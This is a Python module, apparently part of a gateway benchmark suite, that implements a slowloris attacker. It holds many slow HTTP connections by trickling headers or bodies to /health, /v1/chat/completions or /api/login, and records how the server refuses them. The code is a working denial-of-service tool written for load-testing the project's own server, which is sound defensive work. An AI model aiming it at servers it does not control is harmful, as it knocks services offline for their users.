"""The attacker of ``bench_slowloris.py``: ``attack`` holds the slowloris connections (run in a
process of its own, ``bench_slowloris.py --attacker HOST:PORT``, so its work never shares a GIL
with the measuring), and ``Attacker`` starts that process and keeps the last status line it
printed.

Invariants: the attacker's gateway key reaches it in its environment (``KEY_ENV``), never on
its command line; a connection the server closes is opened again on its slot's next tick; on
SIGTERM every socket is closed at once and a last status line says so.
"""

from __future__ import annotations

import errno
import heapq
import json
import os
import selectors
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path
from typing import IO, Any, cast

from panelist.scripts.bench_gateway_rig import PY
from panelist.scripts.benchkit import host_header

SCRIPT = Path(__file__).resolve().with_name("bench_slowloris.py")  # runs the attacker
KEY_ENV = "BENCH_SLOWLORIS_KEY"  # the attacker's gateway key, never on its command line


def attack(
    host: str,
    port: int,
    mode: str,
    n: int,
    interval: float,
    ramp: float,
    *,
    line: int = 1,
    length: int = 0,
    chunk: int = 0,
    key: str | None = None,
) -> int:
    """Hold ``n`` slowloris connections until SIGTERM; a JSON status line on stdout each second.

    ``heads``: each tick sends one byte of a run of short header lines or, with ``line`` > 1,
    one whole header line of ``line`` bytes. The other modes send a whole head claiming
    ``length`` body bytes at once, then ``chunk`` bytes of the body a tick (none when 0) until
    ``length`` went out; then they wait for the answer."""
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    sel = selectors.DefaultSelector()
    where = host_header(host, port)
    if mode == "heads":
        start = f"GET /health HTTP/1.1\r\nHost: {where}\r\n".encode()
    else:
        path = "/v1/chat/completions" if mode == "bodies" else "/api/login"
        auth = f"Authorization: Bearer {key}\r\n" if key and mode == "bodies" else ""
        start = (
            f"POST {path} HTTP/1.1\r\nHost: {where}\r\nContent-Type: application/json\r\n"
            f"{auth}Content-Length: {length}\r\n\r\n"
        ).encode()
    trickle = b"".join(b"X-Slow-%d: z\r\n" % i for i in range(100_000))
    fat = b"X-Fat: " + b"z" * max(0, line - 9) + b"\r\n"
    blanks = b" " * chunk  # JSON whitespace: a body that is no request and no guess
    socks: list[socket.socket | None] = [None] * n
    sent = [0] * n  # bytes sent after the head on the current connection; -1: no head yet
    stats: dict[str, Any] = {
        "opened": 0,
        "closed_by_server": 0,
        "replies": {},
        "connect_failed": 0,
        "send_failed": 0,
        "bodies_sent_whole": 0,
        "body_mb_sent": 0.0,
    }
    body_bytes = 0
    t0 = time.monotonic()
    # (when, slot): each slot's next act; opening spread over ``ramp`` seconds
    due = [(t0 + ramp * i / n, i) for i in range(n)]
    heapq.heapify(due)

    def close(i: int) -> None:
        s = socks[i]
        if s is not None:
            sel.unregister(s)
            s.close()
            socks[i] = None

    def send_more(i: int, s: socket.socket) -> int:
        """The bytes a tick sends after the head; how many went out."""
        if mode == "heads":
            if line > 1:
                return s.send(fat)
            return s.send(trickle[sent[i] : sent[i] + 1])
        left = length - sent[i]
        if left <= 0 or not chunk:
            return 0  # the whole body is out (or none is sent): wait for the answer
        n_sent = s.send(blanks[: min(chunk, left)])
        if n_sent == left:
            stats["bodies_sent_whole"] += 1
        return n_sent

    def act(i: int, now: float) -> float:
        """Open slot i's connection, or send its next bytes; when it acts next."""
        nonlocal body_bytes
        s = socks[i]
        if s is None:
            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
            s.setblocking(False)
            if s.connect_ex((host, port)) not in (0, errno.EINPROGRESS):
                s.close()
                stats["connect_failed"] += 1
                return now + interval
            socks[i], sent[i] = s, -1
            sel.register(s, selectors.EVENT_READ, i)
            stats["opened"] += 1
            return now + 0.01  # the head, once the connection is up
        try:
            if sent[i] < 0:
                s.send(start)  # a fresh socket's buffer holds a head whole
                sent[i] = 0
            else:
                got = send_more(i, s)
                sent[i] += got
                if mode != "heads":
                    body_bytes += got
        except BlockingIOError:  # still connecting (a full listen queue), or a full buffer
            return now + 0.05
        except OSError:
            stats["send_failed"] += 1
            close(i)
        return now + interval

    next_report = t0 + 1
    while not stop.is_set():
        wait = max(0.0, min(due[0][0] - time.monotonic(), 0.1))
        for key_, _ in sel.select(timeout=wait):  # the server answered (408, 503...) or closed
            try:
                # only act()'s sockets are ever registered
                data = cast(socket.socket, key_.fileobj).recv(65536)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1."):  # what the server said before it closed
                status = data[9:12].decode("latin-1")
                body = data.partition(b"\r\n\r\n")[2]
                status += said(body, 0) if status == "503" else ""  # which limit said it
                stats["replies"][status] = stats["replies"].get(status, 0) + 1
            stats["closed_by_server"] += 1
            close(key_.data)  # a fresh connection on this slot's next tick
        now = time.monotonic()
        while due[0][0] <= now:
            _, i = heapq.heappop(due)
            heapq.heappush(due, (act(i, now), i))
        if now >= next_report:
            held = sum(s is not None for s in socks)
            stats["body_mb_sent"] = round(body_bytes / 2**20, 1)
            print(json.dumps(dict(stats, held=held, t=round(now - t0, 1))), flush=True)
            next_report = now + 1
    for i in range(n):
        close(i)
    stats["body_mb_sent"] = round(body_bytes / 2**20, 1)
    print(json.dumps(dict(stats, held=0, closed=True)), flush=True)
    return 0


class Attacker:
    """The attack process, and the last status line it printed (read by a thread)."""

    def __init__(self, addr, args, workdir: Path, key: str | None):
        env = dict(os.environ, **({KEY_ENV: key} if key else {}))
        self.proc = subprocess.Popen(
            [
                PY,
                str(SCRIPT),
                "--attacker",
                f"{addr[0]}:{addr[1]}",
                "--attack",
                args.attack,
                "--connections",
                str(args.connections),
                "--interval",
                str(args.interval),
                "--ramp",
                str(args.ramp),
                "--line-bytes",
                str(args.line_bytes),
                "--body-bytes",
                str(args.body_bytes),
                "--rate",
                str(args.rate),
            ],
            stdout=subprocess.PIPE,
            stderr=open(workdir / "attacker.stderr", "ab"),
            stdin=subprocess.DEVNULL,
            text=True,
            env=env,
        )
        assert self.proc.stdout is not None  # stdout=PIPE above
        self.lines: IO[str] = self.proc.stdout
        self.status: dict = {}
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        for line in self.lines:
            try:
                self.status = json.loads(line)
            except ValueError:
                pass

    def stop(self) -> dict:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=60)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self._reader.join(timeout=10)
        return self.status


def chunk_of(args) -> int:
    """Body bytes the attacker sends a tick: ``rate`` bytes a second, at least one (0: none)."""
    return max(1, round(args.rate * args.interval)) if args.rate > 0 else 0


def said(data: bytes, status: int) -> str:
    """The start of an error reply's message, to tell one refusal from another."""
    if status == 200 or not data:
        return ""
    try:
        return " (" + str(json.loads(data)["error"]["message"])[:60] + "…)"
    except (ValueError, KeyError, TypeError):
        return ""
